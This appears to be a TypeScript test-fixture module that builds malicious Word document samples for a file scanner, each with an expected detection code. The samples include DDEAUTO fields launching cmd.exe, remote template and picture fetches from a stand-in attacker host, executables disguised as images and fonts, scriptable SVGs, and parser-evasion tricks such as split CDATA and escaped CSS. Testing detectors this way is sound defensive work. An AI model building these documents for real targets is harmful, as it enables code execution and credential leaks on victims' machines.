import { linkObject } from "./attack-docs.ts";
import { docOf, docxOf, wordNamespace } from "../files.ts";

type Attack = [what: string, fileName: string, data: Buffer, code: string];

export function linking(type: string, target: string, mode: string | null = "External"): Buffer {
  const full = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;
  const data = `<?xml version="1.0"?><Relationships xmlns="r"><Relationship Id="rId1" Type="${full}" Target="${target}"${mode === null ? "" : ` TargetMode="${mode}"`}/></Relationships>`;
  return docxOf([{ name: "word/_rels/settings.xml.rels", data }]);
}

const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const code = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const field = (inside: string) =>
  `<w:p>${mark("begin")}${inside}${mark("separate")}<w:r><w:t>1</w:t></w:r>${mark("end")}</w:p>`;
const inBody = (body: string) => docxOf([], { body });
const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
const footnotes = (content: string) =>
  docxOf([{ name: "word/footnotes.xml", data: `<w:footnotes xmlns:w="${wordNamespace}">${content}</w:footnotes>` }], {
    types: { "word/footnotes.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml" },
  });

const pictureField = field(code('INCLUDEPICTURE "https://angripare.example/a.png"'));
const relationBase = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
/** A document with a part that a relationship, but no content type, makes a text of Word's. */
const disguised = (type: string, name: string, content: string, target = name) =>
  docxOf([
    {
      name: "word/_rels/document.xml.rels",
      data: `<Relationships><Relationship Id="a" Type="${relationBase}/${type}" Target="${target}"/></Relationships>`,
    },
    { name: `word/${name}`, data: `<w:x xmlns:w="${wordNamespace}">${content}</w:x>` },
  ]);
const addIn = (store: string) =>
  docxOf(
    [
      {
        name: "word/webextensions/webextension1.xml",
        data: `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"><we:reference id="a" store="\\\\angripare.example\\a" storeType="${store}"/></we:webextension>`,
      },
    ],
    { types: { "word/webextensions/webextension1.xml": "application/vnd.ms-office.webextension+xml" } },
  );

/** The beginning of a link's field, with the data that Word reads instead of its code. */
export const linkData = (target: string) =>
  `<w:fldChar w:fldCharType="begin"><w:fldData>${linkObject(target).toString("base64")}</w:fldData></w:fldChar>`;
const share = "file://angripare.example/x.exe";
const splitData = (before: string, after: string) =>
  linkData(share).replace(/(<w:fldData>.{9})(.+)(<\/w:fldData>)/u, `$1${before}$2${after}$3`);
const unc = "\\\\angripare.example\\x";
const unmarked = [
  ["attachedTemplate", "file://angripare.example/mall.dotm"],
  ["attachedTemplate", "https://angripare.example/mall.dotm"],
  ["image", "//angripare.example/a.png"],
  ["image", unc],
  ["hyperlink", share],
] as const;
const other = 'xmlns:x="urn:x"';
const part = (name: string, type: string, data: string) => docxOf([{ name, data }], { types: { [name]: type } });
const svg = (content: string) =>
  part("word/media/image1.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`);

/** Field codes and addresses where a reader of XML may look past them. */
const hiddenWord: Attack[] = [
  ...unmarked.flatMap(([type, target]) =>
    [null, "Internal", ""].map((mode): [string, Buffer] => [
      `121 ${type} to ${target} with the mode ${mode}`,
      linking(type, target, mode),
    ]),
  ),
  ["122 a schema on a share", inBody(`<sl:schema xmlns:sl="urn:sl" sl:manifestLocation="${share}"/>`)],
  ["122 a schema on a site", inBody(`<sl:schema xmlns:sl="urn:sl" sl:manifestLocation="https://angripare.example/"/>`)],
  ["123 a picture's other place", inBody(`<o:x xmlns:o="urn:o" o:althref="${share}"/>`)],
  ["124 a place in a link's target", inBody(`<w:hyperlink w:docLocation="${share}"/>`)],
  ["125 an unknown attribute with a share", inBody(`<w:p w:any="${unc}"/>`)],
  ...["s", "l", "m", "n"].map((sign): [string, Buffer] => [
    `126 a field's link behind \\${sign}`,
    inBody(field(code(`HYPERLINK \\${sign} "${share}"`))),
  ]),
  ["127 a link to a program on the own disk", linking("hyperlink", "file:///C:\\Windows\\System32\\calc.exe")],
  ["127 the same without a scheme", linking("hyperlink", "C:\\Windows\\System32\\calc.exe")],
  ["135 a link's data beside its code", inBody(linkData("file://angripare.example/x"))],
  ["135 a link's data in two texts", inBody(splitData("<![CDATA[", "]]>"))],
  ["135 a link's data around a comment", inBody(splitData("<!-- -->", ""))],
  ["135 a link's data after an equals sign", inBody(linkData(share).replace("<w:fldData>", "<w:fldData>="))],
  ["128 a script in an SVG", svg("<script>alert(1)</script>")],
  ["128 an event in an SVG", svg('<g onload="alert(1)"/>')],
  ["128 a picture that an SVG fetches", svg('<image href="https://angripare.example/a.png"/>')],
  ["128 a style that an SVG fetches", svg("<style>@import 'https://angripare.example/a'</style>")],
  ["128 a page in an SVG", svg("<foreignObject/>")],
  [
    "128 a style that an SVG fetches, in two texts",
    svg("<style>@im<![CDATA[port 'https://angripare.example/a']]></style>"),
  ],
  [
    "128 a style that an SVG fetches, around an element",
    svg("<style>@im<g/>port 'https://angripare.example/a'</style>"),
  ],
  ["128 a style that an SVG fetches, with an escape", svg("<style>@\\69mport 'https://angripare.example/a'</style>")],
  ["128 a filter that an SVG fetches, with an escape", svg('<g style="filter:u\\72l(//angripare.example/a#b)"/>')],
  ["128 a set of pictures that an SVG fetches", svg("<g style=\"fill:image-set('//angripare.example/a' 1x)\"/>")],
  ["128 an attribute that an SVG sets", svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>')],
  ["128 an attribute that an SVG moves", svg('<a><animate attributeName="href" values="javascript:alert(1)"/></a>')],
  ["128 a picture that an SVG fetches by src", svg('<image src="https://angripare.example/a.png"/>')],
  ["128 a style sheet that an SVG fetches", svg('<?xml-stylesheet href="https://angripare.example/a.css"?>')],
  ["128 a base of addresses in an SVG", svg('<g xml:base="https://angripare.example/"><use href="#a"/></g>')],
  ["128 a filter that an SVG fetches", svg('<g style="filter:url(//angripare.example/a#b)"/>')],
].map(([what, data]) => [what, "brev.docx", data, "FILE_ACTIVE"] as Attack);
hiddenWord.push(
  ...(
    [
      [
        "129 a field's code behind an element",
        inBody(field(`<w:r><w:instrText ${other}><x:i/>${dde}</w:instrText></w:r>`)),
      ],
      [
        "129 a field's code in an element",
        inBody(field(`<w:r><w:instrText>DDE<w:i>AUTO c:</w:i></w:instrText></w:r>`)),
      ],
      ["129 a field's text behind an element", inBody(field(`<w:r><w:t><w:i/>${dde}</w:t></w:r>`))],
      [
        "130 a base of links behind an element",
        part(
          "docProps/app.xml",
          "application/vnd.openxmlformats-officedocument.extended-properties+xml",
          `<Properties xmlns="urn:p"><HyperlinkBase><x/>${unc}</HyperlinkBase></Properties>`,
        ),
      ],
      [
        "131 a field's code behind a false one",
        inBody(`<w:fldSimple ${other} x:instr="PAGE" w:instr="${dde.replaceAll('"', "&quot;")}"/>`),
      ],
      [
        "132 a field's begin behind a false end",
        inBody(`<w:p><w:fldChar ${other} x:fldCharType="end" w:fldCharType="begin"/></w:p>`),
      ],
      [
        "133 a program that calls itself a picture",
        part("word/media/image1.emf", "image/x-emf", "MZ\u0000".repeat(30)),
      ],
      ["133 a page that calls itself a picture", part("word/media/image1.png", "image/png", "<html>".repeat(30))],
      [
        "133 a program that calls itself a font",
        part("word/fonts/a.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", "MZ".repeat(30)),
      ],
      [
        "133 a program that calls itself a theme",
        part("word/theme/theme1.xml", "application/vnd.openxmlformats-officedocument.theme+xml", "MZ".repeat(30)),
      ],
    ] as [string, Buffer][]
  ).map(([what, data]): Attack => [what, "brev.docx", data, "FILE_CONTENT"]),
);

export const activeWord: Attack[] = [
  ...hiddenWord,
  ...(
    [
      ["83 a field that starts a program", inBody(field(code(dde)))],
      ["84 a picture that a field fetches", inBody(field(code('INCLUDEPICTURE "https://angripare.example/a.png"')))],
      [
        "85 a text that a field fetches",
        inBody(`<w:fldSimple w:instr=' INCLUDETEXT "https://angripare.example/a" '/>`),
      ],
      ["86 a field written in several runs", inBody(field(code("DDE") + code("AUTO c:")))],
      ["87 a field in a footnote", footnotes(field(code(dde)))],
      ["88 a field whose name is another's result", inBody(field(`${field(code("QUOTE 68 68 69"))}${code(" c:")}`))],
      ["89 a field beside deleted text", inBody(field(`<w:r><w:delInstrText>REF </w:delInstrText></w:r>${code(dde)}`))],
      ["90 a field that was deleted", inBody(field(`<w:r><w:delInstrText>${dde}</w:delInstrText></w:r>`))],
      ["91 a field's code as text", inBody(field(`<w:r><w:t>${dde}</w:t></w:r>`))],
      [
        "92 a link in a field to a program",
        inBody(field(code('HYPERLINK \\t "_blank" "file://angripare.example/x.exe"'))),
      ],
      ["93 a database that a letter asks", inBody("<w:mailMerge/>")],
      ["94 a film that is a web page", inBody('<w:webVideoPr w:embeddedHtml="x"/>')],
      [
        "95 a drawing's picture on another machine",
        inBody(
          '<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://angripare.example/a"/></w:pict>',
        ),
      ],
      ["106 a header without a header's content type", disguised("header", "hdr9.xml", field(code(dde)))],
      ["107 a footer that calls itself a picture", disguised("footer", "media/a.png", pictureField)],
      ["108 settings among a program's own data", disguised("settings", "item1.xml", "<w:mailMerge/>")],
      ["109 a header that calls itself a theme", disguised("header", "theme1.xml", pictureField, "/word/theme1.xml")],
      ["110 a header whose name is written in two ways", disguised("header", "a.xml", "", "%61.xml")],
      ["111 a header that calls itself a list of relationships", disguised("header", "b.rels", field(code(dde)))],
      ["112 an add-in on another machine", addIn("FileSystem")],
      ["113 an add-in from a site", addIn("SPCatalog")],
      ["96 a part that no document has", docxOf([{ name: "word/program.exe", data: "MZ" }])],
    ] as [string, Buffer][]
  ).map(([what, data]): Attack => [what, "brev.docx", data, "FILE_ACTIVE"]),
  [
    "97 a field's code in one of two branches",
    "brev.docx",
    inBody(`<w:p>${mark("begin")}<mc:Choice>${code(dde)}</mc:Choice>${mark("end")}</w:p>`),
    "FILE_CONTENT",
  ],
  [
    "98 a field that another namespace disguises",
    "brev.docx",
    inBody(field(`<mc:instrText>REF </mc:instrText>${code(dde)}`)),
    "FILE_CONTENT",
  ],
  ...(
    [
      ["99 an equation's program in an old document", docOf(["ObjectPool/_1/Equation Native"])],
      ["100 an ActiveX control in an old document", docOf(["ObjectPool/_1/\u0003OCXDATA"])],
      ["101 a control's data at the root of an old document", docOf(["\u0003OCXNAME"])],
      ["102 a field that starts a program in an old document", docOf([], `Hej \u0013 ${dde} \u0014x\u0015`)],
      [
        "103 a picture that a field of an old document fetches",
        docOf([], '\u0013INCLUDEPICTURE "https://angripare.example/a"\u0015'),
      ],
    ] as [string, Buffer][]
  ).map(([what, data]): Attack => [what, "brev.doc", data, "FILE_ACTIVE"]),
];
